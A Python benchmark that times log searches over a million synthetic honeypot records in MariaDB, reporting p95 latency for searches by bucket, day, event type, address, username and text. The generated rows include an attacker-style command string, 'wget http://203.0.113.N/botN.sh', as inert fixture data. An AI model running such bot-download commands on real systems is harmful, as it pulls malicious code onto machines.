"""Operator API reads over a large `logs` table: log search p95 at 1M rows on MariaDB.

1,000,000 parsed records (100,000 with --quick) from 500 buckets over 30 days, 20,000
attacker addresses, 200 usernames, one record in twenty a command. Each search is the
operator API's query function (`rbr_registrar.operator.queries.search_logs`, a page of 100),
timed 30 times with varying values; the figure is the 95th percentile.
"""

from __future__ import annotations

import random
import statistics
import time
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from typing import Any

from sqlalchemy import Engine, insert

from bench.figures import Figure
from rbr_registrar.operator.queries import search_logs
from rbr_registrar.operator.views import LogFilter
from rbr_runtime.db.engine import make_engine
from rbr_runtime.db.migrate import upgrade
from rbr_runtime.db.tables import logs
from rbr_testing.mariadb import create_database, drop_database, mysql_url

GOAL_MS = 300.0
BUCKETS = 500
ADDRESSES = 20_000
USERNAMES = 200
DAYS = 30
BATCH = 10_000
RUNS = 30
START = datetime(2026, 10, 1, tzinfo=UTC)
EVENT_TYPES = ("login_failed", "login_success", "connect", "command", "http_request")


def _row(number: int, pick: random.Random) -> dict[str, Any]:
    event_type = "command" if number % 20 == 0 else pick.choice(EVENT_TYPES[:3] + EVENT_TYPES[4:])
    command = (
        f"wget http://203.0.113.{number % 250}/bot{number % 97}.sh"
        if event_type == "command"
        else None
    )
    bucket = f"rustbucket-{number % BUCKETS:04d}"
    return {
        "name": bucket,
        "ip_address": "203.0.113.7",
        "log": f"{event_type} from 198.51.{number % 200}.{number % 250} user{number % USERNAMES} "
        f"{command or ''} session {number:08x}",
        "log_size": 90,
        "created_at": START + timedelta(seconds=number * DAYS * 86400 // 1_000_000),
        "log_format": "cowrie",
        "event_type": event_type,
        "source_ip": f"198.51.{pick.randrange(ADDRESSES) // 250}.{pick.randrange(250)}",
        "username": f"user{pick.randrange(USERNAMES)}",
        "command": command,
        "source_key": f"raw/{bucket}",
        "source_sha256": f"{number // 1000:064x}",
        "record_no": number % 1000,
    }


def _fill(engine: Engine, count: int) -> None:
    pick = random.Random(7)
    with engine.begin() as connection:
        for start in range(0, count, BATCH):
            rows = [_row(n, pick) for n in range(start, min(count, start + BATCH))]
            connection.execute(insert(logs), rows)


def _p95(engine: Engine, make: Callable[[random.Random], LogFilter], pages: int = 1) -> float:
    pick = random.Random(11)
    timings = []
    for _ in range(RUNS):
        where = make(pick)
        started = time.perf_counter()
        cursor = None
        for _ in range(pages):
            cursor = search_logs(engine, where, cursor, 100).next_cursor
        timings.append((time.perf_counter() - started) * 1000)
    return statistics.quantiles(timings, n=20)[-1]


def _day(pick: random.Random) -> tuple[datetime, datetime]:
    since = START + timedelta(days=pick.randrange(DAYS))
    return since, since + timedelta(days=1)


SEARCHES: dict[str, Callable[[random.Random], LogFilter]] = {
    "newest records": lambda pick: LogFilter(),
    "one bucket": lambda pick: LogFilter(bucket=f"rustbucket-{pick.randrange(BUCKETS):04d}"),
    "one bucket, one day": lambda pick: LogFilter(
        bucket=f"rustbucket-{pick.randrange(BUCKETS):04d}",
        **dict(zip(("since", "until"), _day(pick), strict=True)),
    ),
    "event type": lambda pick: LogFilter(event_type=pick.choice(EVENT_TYPES)),
    "source address": lambda pick: LogFilter(
        source_ip=f"198.51.{pick.randrange(ADDRESSES) // 250}.{pick.randrange(250)}"
    ),
    "username": lambda pick: LogFilter(username=f"user{pick.randrange(USERNAMES)}"),
    "command text in one bucket": lambda pick: LogFilter(
        bucket=f"rustbucket-{pick.randrange(BUCKETS):04d}", command=f"bot{pick.randrange(97)}.sh"
    ),
    "free text, one day": lambda pick: LogFilter(
        text=f"session {pick.randrange(1_000_000):08x}"[:12],
        **dict(zip(("since", "until"), _day(pick), strict=True)),
    ),
    "free text matching nothing, one day": lambda pick: LogFilter(
        text=f"no-such-text-{pick.randrange(1000)}",
        **dict(zip(("since", "until"), _day(pick), strict=True)),
    ),
}
UNBOUNDED = LogFilter(text="no-such-text-anywhere")
"""A text search no index narrows: it reads every record (reported, not held to the goal)."""


def run(quick: bool) -> list[Figure]:
    count = 100_000 if quick else 1_000_000
    database = create_database()
    url = mysql_url(database)
    upgrade(url)
    engine = make_engine(url)
    try:
        started = time.monotonic()
        _fill(engine, count)
        print(f"   ({count:,} log rows stored in {time.monotonic() - started:.0f}s)", flush=True)
        figures = [
            Figure(
                f"log search p95, {name}, {count:,} rows",
                value,
                "ms",
                goal=f"< {GOAL_MS:.0f} ms",
                met=value < GOAL_MS,
            )
            for name, make in SEARCHES.items()
            for value in [_p95(engine, make)]
        ]
        unbounded = _p95(engine, lambda pick: UNBOUNDED)
        figures.append(
            Figure(
                f"log search p95, free text over all {count:,} rows",
                unbounded,
                "ms",
                note="reads every record: narrow text searches by bucket or time",
            )
        )
        deep = _p95(engine, SEARCHES["one bucket"], pages=5)
        figures.append(
            Figure(f"log search, 5 pages of one bucket, {count:,} rows", deep, "ms", note="p95")
        )
        return figures
    finally:
        engine.dispose()
        drop_database(database)
